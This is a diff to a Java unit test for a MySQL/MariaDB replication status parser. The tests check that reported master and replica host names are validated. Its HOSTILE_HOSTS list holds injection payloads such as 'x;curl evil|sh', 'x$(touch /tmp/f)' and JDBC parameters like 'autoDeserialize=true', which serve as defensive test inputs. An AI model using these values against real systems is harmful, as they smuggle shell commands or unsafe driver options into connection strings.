@@ -3,8 +3,10 @@ package io.quorch.mysql;
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertNull;
+import static org.junit.jupiter.api.Assertions.assertThrows;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
+import java.util.ArrayList;
 import java.util.HashMap;
 import java.util.LinkedHashMap;
 import java.util.List;
@@ -137,7 +139,7 @@ class ReplicationStatusParserTest {
         var mysql = new StatusRow(Map.of("Server_Id", "2", "Host", "db-2", "Port", "3306", "Source_Id", "1",
                 "Replica_UUID", "x"));
         assertEquals(List.of(new InstanceKey("127.0.0.1", 23307), new InstanceKey("db-2", 3306)),
-                ReplicationStatusParser.replicas(List.of(mariadb, unreported, mysql)));
+                ReplicationStatusParser.replicas(new InstanceKey("db-1", 3306), List.of(mariadb, unreported, mysql)));
     }
 
     @Test
@@ -173,5 +175,48 @@ class ReplicationStatusParserTest {
         assertEquals(2, s.masterClients());
         assertEquals(10000, s.masterTimeout());
         assertFalse(s.replicaEnabled());
+    }
+
+    static final List<String> HOSTILE_HOSTS = List.of("x;curl evil|sh", "db1/?allowLoadLocalInfile=true",
+            "db1?autoDeserialize=true", "db1,evil:3306", "user@db1", "x$(touch /tmp/f)", "db 1", "db1'--", "a\nb",
+            "[::1]", "host:3306:1");
+
+    @Test
+    void aMasterHostThatIsNotAServerIsAnErrorNamingIt() {
+        for (String host : HOSTILE_HOSTS) {
+            Map<String, String> m = new HashMap<>(mariadbRow());
+            m.put("Master_Host", host);
+            var e = assertThrows(InvalidReportedHostException.class,
+                    () -> ReplicationStatusParser.parse(new StatusRow(m)), host);
+            assertTrue(e.getMessage().contains("Master_Host"), e.getMessage());
+            assertTrue(e.getMessage().contains("not a valid host name or address"), e.getMessage());
+        }
+        Map<String, String> m = new HashMap<>(mariadbRow());
+        m.put("Master_Port", "70000");
+        assertThrows(InvalidReportedHostException.class, () -> ReplicationStatusParser.parse(new StatusRow(m)));
+    }
+
+    @Test
+    void replicasThatAreNotServersAreSkippedAndTheOthersKept() {
+        InstanceKey reporter = new InstanceKey("db-1", 3306);
+        List<StatusRow> rows = new ArrayList<>();
+        rows.add(new StatusRow(Map.of("Server_id", "2", "Host", "db-2", "Port", "3306", "Master_id", "1")));
+        for (String host : HOSTILE_HOSTS) {
+            rows.add(new StatusRow(Map.of("Server_id", "9", "Host", host, "Port", "3306", "Master_id", "1")));
+        }
+        rows.add(new StatusRow(Map.of("Server_id", "3", "Host", "db-3", "Port", "99999", "Master_id", "1")));
+        rows.add(new StatusRow(Map.of("Server_id", "4", "Host", "fe80::1", "Port", "3307", "Master_id", "1")));
+        assertEquals(List.of(new InstanceKey("db-2", 3306), new InstanceKey("fe80::1", 3307)),
+                ReplicationStatusParser.replicas(reporter, rows));
+    }
+
+    @Test
+    void dumpThreadHostsThatAreNotServersAreSkipped() {
+        InstanceKey reporter = new InstanceKey("db-1", 3306);
+        List<String> hosts = new ArrayList<>(HOSTILE_HOSTS);
+        hosts.add(null);
+        hosts.add("");
+        hosts.add("10.0.0.2");
+        assertEquals(List.of(new InstanceKey("10.0.0.2", 3306)), ReplicationStatusParser.dumpThreadHosts(reporter, hosts));
     }
 }
